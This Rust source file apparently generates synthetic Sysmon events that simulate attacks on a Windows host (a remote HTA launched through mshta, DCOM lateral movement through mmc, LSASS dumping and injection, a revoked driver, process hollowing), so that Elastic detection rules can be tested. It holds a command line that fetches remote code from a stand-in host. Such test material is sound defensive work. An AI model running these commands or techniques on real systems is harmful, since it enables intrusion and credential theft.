//! Attacks on and by processes.

use super::super::teller::{Answer, Start, Started, Teller, To};
use super::super::words::*;
use super::{act, event, of, powershell, write};
use crate::evtx::Value;
use crate::sysmon::{Event, process_create, process_terminate};

const LSASS: &str = r"C:\Windows\System32\lsass.exe";
const HASHES: &str = "MD5=9AE9FC2F8A3C2F1D0E7B6A5948372615,SHA256=31F4CFB4C71DA44120752721103A16512444C13C2AC2D857A7E6F13CB679B427,IMPHASH=7A8E4F6D3C2B1A09F8E7D6C5B4A39281";

pub(super) fn tell(t: &mut Teller) {
    mshta(t);
    mmc(t);
    let shell = powershell(t);
    loads(t, &shell);
    lsass(t, &shell);
    let device = [("Device", r"\Device\HarddiskVolume3")];
    act(
        t,
        &shell,
        9,
        &device,
        "reads the disk past the file system, for locked files",
    );
    let clip = t.start(
        &Start::of(r"C:\Windows\System32\rdpclip.exe").user(BOB),
        "remote desktop's clipboard",
    );
    let data = [
        (
            "ClientInfo",
            "user: CORP\\bob ip: 10.20.0.99 hostname: WS09",
        ),
        ("Hashes", HASHES),
        ("Archived", "true"),
    ];
    let event = of(t, &clip.process, 24, &data).with("Session", Value::UInt32(2));
    write(t, event, "a password is copied over remote desktop");
    let hollow = t.start(
        &Start::of(r"C:\Windows\System32\svchost.exe")
            .under(POWERSHELL)
            .user(BOB),
        "svchost started by PowerShell",
    );
    act(
        t,
        &hollow,
        25,
        &[("Type", "Image is replaced")],
        "and its image replaced",
    );
    let end = t.clock.plus_ms(900);
    t.clock = end;
    let event = process_terminate(&t.host, &hollow.process, end);
    write(t, event, "it ends");
}

fn mshta(t: &mut Teller) {
    let image = r"C:\Windows\System32\mshta.exe";
    let line = "mshta.exe http://cdn.example/a.hta";
    let mshta = t.start(&Start::of(image).line(line), "explorer starts mshta");
    let data = [
        ("QueryName", "cdn.example"),
        ("QueryStatus", "0"),
        ("QueryResults", "::ffff:93.184.216.34;"),
    ];
    act(t, &mshta, 22, &data, "mshta asks for the name");
    let what = "mshta connects (Elastic: Mshta Making Network Connections)";
    t.connect(&mshta, &To::ip(STAGER).port(80, "http"), Answer::No, what);
}

fn mmc(t: &mut Teller) {
    let mmc = t.start(
        &Start::of(r"C:\Windows\System32\mmc.exe")
            .user(BOB)
            .line("mmc.exe -Embedding"),
        "mmc is activated over DCOM",
    );
    let to = To::ip("10.20.0.51").port(49_820, "").with(|c| {
        c.initiated = false;
        c.source = "10.20.0.99".to_owned();
    });
    t.connect(&mmc, &to, Answer::No, "another host connects to it");
    let child = t.process(
        &Start::of(CMD)
            .user(BOB)
            .under(r"C:\Windows\System32\mmc.exe")
            .line("cmd.exe /c whoami /all"),
    );
    let guid = Value::Guid(mmc.process.guid(&t.host));
    let event = process_create(&t.host, &child)
        .with("ParentProcessGuid", guid)
        .with("ParentProcessId", Value::UInt32(mmc.process.pid));
    write(
        t,
        event,
        "and mmc starts cmd (Elastic: Incoming DCOM Lateral Movement with MMC)",
    );
}

fn library(t: &mut Teller, process: &Started, name: &str, what: &str) {
    let path = format!(r"C:\Windows\System32\{name}");
    let data = [
        ("ImageLoaded", path.as_str()),
        ("OriginalFileName", name),
        ("Hashes", HASHES),
        ("Signed", "true"),
        ("Signature", "Microsoft Windows"),
        ("SignatureStatus", "Valid"),
    ];
    act(t, process, 7, &data, what);
}

fn loads(t: &mut Teller, shell: &Started) {
    let word = t.start(&Start::of(WORD), "Word");
    library(
        t,
        &word,
        "taskschd.dll",
        "Word loads the task scheduler's library (Elastic: Suspicious Image Load (taskschd.dll) from MS Office)",
    );
    let image = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe";
    let build = t.start(&Start::of(image).user(BOB).under(POWERSHELL), "MSBuild");
    library(
        t,
        &build,
        "vaultcli.dll",
        "MSBuild loads the vault's library",
    );
    let data = [
        ("ImageLoaded", r"C:\Windows\Temp\gdrv.sys"),
        ("Hashes", HASHES),
        ("Signed", "true"),
        ("Signature", "Contoso Hardware Ltd."),
        ("SignatureStatus", "Revoked"),
    ];
    let driver = event(t, 6, &data);
    write(t, driver, "a driver with a revoked signature is loaded");
    let data = [
        ("ImageLoaded", r"C:\Users\Public\version.dll"),
        ("Signed", "false"),
        ("SignatureStatus", "Unavailable"),
        ("Hashes", HASHES),
    ];
    act(
        t,
        shell,
        7,
        &data,
        "an unsigned library from a public folder",
    );
}

fn lsass(t: &mut Teller, shell: &Started) {
    let image = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe";
    let build = t.start(
        &Start::of(image).user(BOB).under(POWERSHELL),
        "MSBuild again",
    );
    let thread = between(t, 8, &build)
        .with("NewThreadId", Value::UInt32(7_012))
        .with("StartAddress", "0x00007FFC61E0A1B0")
        .with("StartModule", r"C:\Windows\System32\KERNEL32.DLL")
        .with("StartFunction", "LoadLibraryA");
    let what =
        "a thread of MSBuild's in lsass (Elastic: Process Injection by the Microsoft Build Engine)";
    write(t, thread, what);
    let trace = r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2bd3e|C:\Windows\System32\dbgcore.DLL+6a1e";
    let what =
        "PowerShell dumps lsass (Elastic: Potential Credential Access via LSASS Memory Dump)";
    open(t, shell, trace, what);
    let trace = "UNKNOWN(000001F2A3B4C5D6)|UNKNOWN(000001F2A3B40000)";
    let what = "and opens it from memory that belongs to no file (Elastic: Suspicious Process Access via Direct System Call)";
    open(t, shell, trace, what);
}

fn open(t: &mut Teller, process: &Started, trace: &str, what: &str) {
    let event = between(t, 10, process)
        .with("SourceThreadId", Value::UInt32(6_120))
        .with("GrantedAccess", Value::Hex32(0x1f_ffff))
        .with("CallTrace", trace);
    write(t, event, what);
}

/// An event between a process and lsass. Sysmon spells the GUIDs of events 8 and 10 differently.
fn between(t: &mut Teller, id: u16, source: &Started) -> Event {
    let lsass = t.host.process_guid(t.clock.minus_ms(7_200_000), 0x5f21);
    let source_guid = Value::Guid(source.process.guid(&t.host));
    event(t, id, &[])
        .with("SourceProcessGuid", source_guid.clone())
        .with("SourceProcessGUID", source_guid)
        .with("SourceProcessId", Value::UInt32(source.process.pid))
        .with("SourceImage", source.process.image.as_str())
        .with("TargetProcessGuid", Value::Guid(lsass))
        .with("TargetProcessGUID", Value::Guid(lsass))
        .with("TargetProcessId", Value::UInt32(712))
        .with("TargetImage", LSASS)
        .with("SourceUser", source.process.user.name)
        .with("TargetUser", SYSTEM.name)
}
